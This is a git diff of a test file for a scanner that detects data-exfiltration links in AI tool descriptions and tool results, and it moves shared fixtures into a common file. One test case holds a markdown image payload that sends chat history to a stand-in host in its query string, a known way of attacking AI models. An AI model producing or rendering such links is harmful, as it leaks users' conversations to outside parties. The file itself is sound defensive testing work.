@@ -1,20 +1,10 @@
 import { expect, test } from 'vitest';
+import { alone, answered, described } from '../../../test/fixtures/subjects.ts';
 import type { Subject } from '../finding.ts';
 import { verdictOf } from '../inspect.ts';
 import { exfiltrationLinks } from './exfiltration-links.ts';
 
-const context = { others: new Map<string, readonly string[]>() };
-const described = (description: string): Subject => ({
-  kind: 'tools',
-  server: 's',
-  tools: [{ name: 'x', description }],
-});
-const answered = (text: string): Subject => ({
-  kind: 'result',
-  server: 's',
-  result: { content: [{ type: 'text', text }] },
-});
-const verdict = (subject: Subject) => verdictOf(exfiltrationLinks(subject, context));
+const verdict = (subject: Subject) => verdictOf(exfiltrationLinks(subject, alone));
 
 test.each([
   ['of markdown', '![a](https://a.example/p.png?d={{chat_history}})'],
@@ -48,5 +38,5 @@ test.each([
   ['a template of an interface', 'GET https://api.example/users/{id}/items?page={page}'],
   ['an ordinary link', '[docs](https://docs.example/search?q=token+content)'],
 ])('%s is left alone', (_, text) => {
-  expect(exfiltrationLinks(answered(text), context)).toEqual([]);
+  expect(exfiltrationLinks(answered(text), alone)).toEqual([]);
 });
